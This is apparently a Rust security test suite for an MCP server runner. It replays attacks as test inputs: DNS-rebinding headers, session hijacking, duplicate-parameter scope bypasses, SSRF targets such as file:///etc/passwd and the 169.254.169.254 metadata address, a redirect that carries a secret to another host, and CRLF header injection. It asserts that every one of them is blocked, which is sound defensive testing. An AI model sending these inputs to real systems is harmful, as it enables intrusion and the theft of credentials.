//! Each case replays one attack.

use bmm_runner::engine::{LogLevel, Redirect};
use bytes::Bytes;
use http::{Request, StatusCode};
use libtest_mimic::Trial;
use serde_json::{Value, json};

use crate::fetch::{API, EVIL, OTHER, SECRETS, Upstream, fetch, get, run_tool, with_header};
use crate::support::*;

pub(crate) fn cases() -> Vec<Trial> {
    vec![
        // RFC 6750 section 3, RFC 9728 section 5.1
        case("without_a_token_everything_is_401_before_anything_else", no_token),
        // MCP security best practices, "Session Hijacking"
        case("a_session_of_another_principal_does_not_exist", foreign_session),
        case(
            "a_stateless_request_reaches_no_session",
            session_through_stateless,
        ),
        case(
            "sessions_are_capped_and_the_oldest_of_a_principal_gives_way",
            session_caps,
        ),
        // CVE-2026-42559 (DNS rebinding)
        case("a_foreign_origin_or_host_is_403", rebinding),
        case(
            "a_body_with_two_params_does_not_pass_the_scope_check",
            duplicate_params,
        ),
        case("a_large_body_is_413", large_body),
        case("a_host_that_was_not_declared_is_not_fetched", undeclared),
        case("a_secret_cannot_be_returned_thrown_or_logged", secret_is_opaque),
        case("a_secret_that_a_host_echoes_is_scrubbed", secret_echoed),
        case(
            "a_secret_that_a_host_returns_half_escaped_is_scrubbed",
            secret_half_escaped,
        ),
        case("a_secret_goes_only_where_it_is_declared", secret_misplaced),
        case(
            "a_redirect_cannot_carry_a_secret_to_another_host",
            secret_in_redirect,
        ),
        case(
            "a_secret_cannot_split_a_header_or_leave_its_value",
            secret_escaping,
        ),
    ]
}

async fn no_token() {
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo()).into_service();
    let requests = [
        post(None, &initialize()),
        modern("bad", "server/discover", json!({})),
        Request::get("/mcp").header("host", HOST),
        Request::delete("/mcp")
            .header("host", "evil.example")
            .header("origin", "https://evil.example"),
        Request::post("/mcp").header("content-type", "text/plain"),
        Request::put("/mcp"),
    ];
    for request in requests {
        let answer = send(&service, request).await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{answer:?}");
        let challenge = answer.header("www-authenticate");
        let metadata =
            "resource_metadata=\"https://mcp.example.com/.well-known/oauth-protected-resource/demo/mcp\"";
        assert!(
            challenge.starts_with("Bearer ") && challenge.contains(metadata),
            "{challenge}"
        );
        assert!(challenge.contains("scope=\"mcp:read\""), "{challenge}");
    }
}

async fn foreign_session() {
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo()).into_service();
    let id = session(&service, ANN).await;
    let ping = request(1, "ping", json!({}));
    let with_session = |builder: http::request::Builder, token: &str| {
        builder
            .header("host", HOST)
            .header("authorization", format!("Bearer {token}"))
            .header("accept", "text/event-stream")
            .header("mcp-session-id", &id)
    };
    // Another user; the same user through another client.
    for other in [BEN, "ann.other-client.mcp_read"] {
        assert_eq!(
            send(&service, legacy(other, &id, &ping)).await.status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            send(&service, with_session(Request::get("/mcp"), other))
                .await
                .status,
            StatusCode::NOT_FOUND
        );
        assert_eq!(
            send(&service, with_session(Request::delete("/mcp"), other))
                .await
                .status,
            StatusCode::NOT_FOUND
        );
    }
    assert_eq!(
        send(&service, legacy(ANN, &id, &ping)).await.json()["result"],
        json!({})
    );
    assert_eq!(
        send(&service, legacy(ANN, "made-up", &ping)).await.status,
        StatusCode::NOT_FOUND
    );
}

async fn session_through_stateless() {
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo()).into_service();
    let id = session(&service, ANN).await;
    let stateless = modern(BEN, "tools/list", json!({})).header("mcp-session-id", &id);
    assert_eq!(send(&service, stateless).await.status, StatusCode::OK);
    // An initialize selects the stateful era whatever the header says; it must not land in the session it names.
    let mut body = initialize();
    body["params"]["protocolVersion"] = json!(MODERN);
    let crossing = post(Some(BEN), &body)
        .header("mcp-protocol-version", MODERN)
        .header("mcp-session-id", &id);
    let answer = send(&service, crossing).await;
    assert_ne!(answer.header("mcp-session-id"), id);
    let ping = request(1, "ping", json!({}));
    assert_eq!(
        send(&service, legacy(ANN, &id, &ping)).await.json()["result"],
        json!({})
    );
}

async fn session_caps() {
    let mut limits = bmm_runner::RunnerLimits::default();
    limits.sessions = 3;
    limits.sessions_per_principal = 2;
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo())
        .with_limits(limits)
        .into_service();
    let first = session(&service, ANN).await;
    let second = session(&service, ANN).await;
    let third = session(&service, ANN).await;
    let ping = request(1, "ping", json!({}));
    assert_eq!(
        send(&service, legacy(ANN, &first, &ping)).await.status,
        StatusCode::NOT_FOUND
    );
    for id in [&second, &third] {
        assert_eq!(
            send(&service, legacy(ANN, id, &ping)).await.status,
            StatusCode::OK
        );
    }
    session(&service, BEN).await;
    let full = send(&service, post(Some("cat.client.mcp_read"), &initialize())).await;
    assert_eq!(full.status, StatusCode::SERVICE_UNAVAILABLE);
}

async fn rebinding() {
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo()).into_service();
    let with = |name: &'static str, value: &'static str| {
        let mut request = modern(ANN, "tools/list", json!({}));
        request
            .headers_mut()
            .unwrap()
            .insert(name, value.parse().unwrap());
        request
    };
    for (name, value, status) in [
        ("origin", "https://evil.example", 403),
        ("origin", "null", 403),
        ("origin", "http://mcp.example.com", 403),
        ("origin", "https://mcp.example.com:8443", 403),
        ("origin", "https://mcp.example.com", 200),
        ("host", "evil.example", 403),
        ("host", "127.0.0.1", 403),
        ("host", "localhost:4000", 403),
    ] {
        assert_eq!(
            send(&service, with(name, value)).await.status.as_u16(),
            status,
            "{name}: {value}"
        );
    }
}

async fn duplicate_params() {
    let mut writing = tool("write");
    writing["scopes"] = json!(["demo:write"]);
    let service = guarded(spec(json!([tool("echo"), writing]), json!({})), echo()).into_service();
    let id = session(&service, ANN).await;
    for body in [
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo"},"params":{"name":"write","arguments":{"text":"x"}}}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","name":"write","arguments":{"text":"x"}}}"#,
        r#"{"jsonrpc":"2.0","id":1,"method":"ping","method":"tools/call","params":{"name":"write","arguments":{"text":"x"}}}"#,
    ] {
        let request = legacy(ANN, &id, &json!(null))
            .body(http_body_util::Full::new(Bytes::from(body)))
            .unwrap();
        let response = tower::ServiceExt::oneshot(service.clone(), request)
            .await
            .unwrap();
        let body = http_body_util::BodyExt::collect(response.into_body())
            .await
            .unwrap()
            .to_bytes();
        assert!(!String::from_utf8_lossy(&body).contains("\"result\""), "{body:?}");
    }
}

async fn large_body() {
    let service = guarded(spec(json!([tool("echo")]), json!({})), echo()).into_service();
    let text = "x".repeat(5 * 1024 * 1024);
    let answer = send(
        &service,
        modern(
            ANN,
            "tools/call",
            json!({"name": "echo", "arguments": {"text": text}}),
        ),
    )
    .await;
    assert_eq!(answer.status, StatusCode::PAYLOAD_TOO_LARGE);
}

async fn undeclared() {
    let upstream = Upstream::start().await;
    for (url, why) in [
        (format!("https://{EVIL}/"), "allowedDomains"),
        (format!("https://{API}.{EVIL}/"), "allowedDomains"),
        (format!("https://{API}:8443/"), "allowedDomains"),
        (format!("https://x.{API}/"), "allowedDomains"),
        (format!("http://{API}/"), "https"),
        ("file:///etc/passwd".to_owned(), "https"),
        ("data:text/plain,x".to_owned(), "https"),
        (format!("https://user:pass@{API}/"), "credentials"),
        (format!("https://{API}@{EVIL}/"), "credentials"),
        ("https://127.0.0.1/".to_owned(), "IP address"),
        ("https://2130706433/".to_owned(), "IP address"),
        ("https://0x7f.1/".to_owned(), "IP address"),
        ("https://[::1]/".to_owned(), "IP address"),
        (
            "https://169.254.169.254/latest/meta-data".to_owned(),
            "IP address",
        ),
        ("/relative".to_owned(), "absolute"),
    ] {
        let error = fetch(&upstream, get(url.clone())).await.unwrap_err();
        assert!(error.contains(why), "{url}: {error}");
    }
    let mut traced = get(format!("https://{API}/"));
    traced.method = "TRACE".to_owned();
    assert!(fetch(&upstream, traced).await.is_err());
    assert_eq!(*upstream.connections.lock().unwrap(), 0);

    // What means the same host is the same host.
    for url in [
        format!("https://{}/", API.to_uppercase()),
        format!("https://{API}./"),
        format!("https://{API}:443/"),
    ] {
        let fetched = fetch(&upstream, get(url.clone())).await;
        // A name with a trailing dot is allowed, and the certificate may still be refused for it.
        if !url.ends_with("./") {
            fetched.unwrap();
        }
    }
}

/// Whether any spelling of any secret occurs.
fn holds_a_secret(value: &Value) -> bool {
    let text = value.to_string();
    SECRETS.iter().any(|(_, secret)| {
        let plain = secret.split(['/', '"', '&', '+']).next().unwrap();
        text.contains(plain)
    })
}

async fn secret_is_opaque() {
    let upstream = Upstream::start().await;
    let result = run_tool(upstream.connector(), |host| async move {
        let key = host.secret_handle("KEY").unwrap();
        assert_eq!(host.secret_handle("KEY").unwrap(), key);
        assert_eq!(host.secret_handle("NOT_DECLARED"), None);
        let basic = host.basic_auth("user", &key).unwrap();
        host.log(LogLevel::Error, &format!("{key} {basic}"));
        let mac = host.hmac("sha256", &key, b"data").unwrap();
        assert_eq!(mac.len(), 64);
        assert!(host.hmac("md5", &key, b"data").is_err());
        Ok(json!([key, basic, mac]))
    })
    .await;
    assert!(!holds_a_secret(&result), "{result}");
    // A handle says nothing, and nothing to the next call.
    let text = result["content"][0]["text"].as_str().unwrap().to_owned();
    let old = serde_json::from_str::<Value>(&text).unwrap()[0]
        .as_str()
        .unwrap()
        .to_owned();
    let request = with_header(get(format!("https://{API}/")), "x-key", old);
    assert!(
        fetch(&upstream, request)
            .await
            .unwrap_err()
            .contains("only valid in the call")
    );
}

async fn secret_echoed() {
    let upstream = Upstream::start().await;
    let result = run_tool(upstream.connector(), |host| async move {
        let handle = |name| host.secret_handle(name).unwrap();
        let basic = host.basic_auth("user", &handle("KEY")).unwrap();
        let mut request = get(format!(
            "https://{API}/p/{}?k={}",
            handle("PATH_KEY"),
            handle("QUERY_KEY")
        ));
        request.method = "POST".to_owned();
        request.body = Some(Bytes::from(format!("{{\"k\": \"{}\"}}", handle("BODY_KEY"))));
        let request = with_header(request, "content-type", "application/json");
        let request = with_header(request, "authorization", basic);
        let request = with_header(request, "range", "bytes=0-3");
        let request = with_header(request, "x-key", format!("Token {}", handle("KEY")));
        let response = host.fetch(request).await?;
        host.log(LogLevel::Info, &String::from_utf8_lossy(&response.body));
        let headers = response
            .headers
            .iter()
            .map(|(name, value)| format!("{name}: {value}"))
            .collect::<Vec<_>>();
        let text = format!(
            "{}\n{}\n{}",
            response.url,
            headers.join("\n"),
            String::from_utf8_lossy(&response.body)
        );
        Err(text)
    })
    .await;
    assert!(!holds_a_secret(&result), "{result}");
    let text = result["content"][0]["text"].as_str().unwrap();
    for name in ["KEY", "QUERY_KEY", "BODY_KEY", "PATH_KEY"] {
        assert!(text.contains(&format!("[secret {name}]")), "{name}: {text}");
    }
    // The host itself got them, each as one value.
    let seen = &upstream.seen()[0];
    assert_eq!(seen.target, "/p/path-5ecret%2Fvalue?k=query-5ecret%26value");
    assert_eq!(seen.headers["x-key"], format!("Token {}", SECRETS[0].1));
    assert_eq!(seen.body, r#"{"k": "body-5ecret\"value"}"#);
    assert!(
        seen.headers["authorization"]
            .to_str()
            .unwrap()
            .starts_with("Basic ")
    );
    assert!(!seen.headers.contains_key("range"));
}

async fn secret_half_escaped() {
    let upstream = Upstream::start().await;
    // What a host makes of `key-5ecret/+="value`: it escapes what it likes to, and no whole spelling of it is the outcome.
    let guises = [
        r#"{"key": "key-5ecret\/+=\u0022value"}"#,
        r#"{"key": "key-5ecret/\u002B\u003d\"value"}"#,
        "key=key-5ecret/%2B=%22value",
        "key=key-5ecret%2f+%3D\"value",
        "<p>key-5ecret/+=&quot;value</p>",
        "<p>key-5ecret&#47;&#x2b;=&#34;value</p>",
        r#"{"page": "<p>key-5ecret\/+=&quot;value<\/p>"}"#,
        "key=key-5ecret%252F%2B%253D%22value",
    ];
    let result = run_tool(upstream.connector(), move |host| async move {
        let mut seen = Vec::new();
        for guise in guises {
            let mut request = get(format!("https://{API}/body"));
            request.method = "POST".to_owned();
            request.body = Some(Bytes::from(guise));
            let response = host.fetch(request).await?;
            let text = String::from_utf8_lossy(&response.body).into_owned();
            // And what the tool says itself.
            host.log(LogLevel::Info, guise);
            seen.push(text);
        }
        Ok(json!(seen))
    })
    .await;
    assert!(!holds_a_secret(&result), "{result}");
    let text = result["content"][0]["text"].as_str().unwrap();
    assert_eq!(text.matches("[secret KEY]").count(), guises.len(), "{text}");
    // Of what stands around it nothing goes.
    assert!(text.contains("<p>[secret KEY]</p>"), "{text}");
}

async fn secret_misplaced() {
    let upstream = Upstream::start().await;
    let result = run_tool(upstream.connector(), |host| async move {
        let key = host.secret_handle("KEY").unwrap();
        let mut errors = Vec::new();
        errors.push(
            host.fetch(get(format!("https://{API}/?k={key}")))
                .await
                .unwrap_err(),
        );
        errors.push(host.fetch(get(format!("https://{API}/{key}"))).await.unwrap_err());
        errors.push(
            host.fetch(get(format!("https://{key}.{API}/")))
                .await
                .unwrap_err(),
        );
        errors.push(
            host.fetch(with_header(get(format!("https://{OTHER}/")), "x", &key))
                .await
                .unwrap_err(),
        );
        let basic = host.basic_auth("u", &key).unwrap();
        errors.push(
            host.fetch(with_header(get(format!("https://{OTHER}/")), "x", basic))
                .await
                .unwrap_err(),
        );
        let mut body = get(format!("https://{API}/"));
        body.method = "POST".to_owned();
        body.body = Some(Bytes::from(key));
        errors.push(host.fetch(body).await.unwrap_err());
        Ok(json!(errors))
    })
    .await;
    let text = result["content"][0]["text"].as_str().unwrap();
    assert_eq!(text.matches("may not be sent").count(), 5, "{text}");
    assert!(upstream.seen().is_empty(), "{:?}", upstream.seen());
}

async fn secret_in_redirect() {
    let upstream = Upstream::start().await;
    let result = run_tool(upstream.connector(), |host| async move {
        let key = host.secret_handle("QUERY_KEY").unwrap();
        // The host puts what it was sent into the address.
        let url = format!("https://{API}/redirect?302&https://{OTHER}/?leak={key}");
        Ok(json!(host.fetch(get(url)).await.unwrap_err()))
    })
    .await;
    assert!(
        result["content"][0]["text"]
            .as_str()
            .unwrap()
            .contains("would carry the secret QUERY_KEY"),
        "{result}"
    );
    assert!(upstream.seen().iter().all(|seen| seen.host != OTHER));
    let mut manual = get(format!("https://{API}/redirect?302&https://{OTHER}/"));
    manual.redirect = Redirect::Manual;
    assert_eq!(fetch(&upstream, manual).await.unwrap().status, 302);
}

async fn secret_escaping() {
    let upstream = Upstream::start().await;
    let error = fetch(
        &upstream,
        with_header(get(format!("https://{API}/")), "x", "a\r\nevil: 1"),
    )
    .await
    .unwrap_err();
    assert!(error.contains("not valid"), "{error}");
    let error = fetch(&upstream, with_header(get(format!("https://{API}/")), "x y", "a"))
        .await
        .unwrap_err();
    assert!(error.contains("not valid"), "{error}");
    assert!(upstream.seen().is_empty());
}
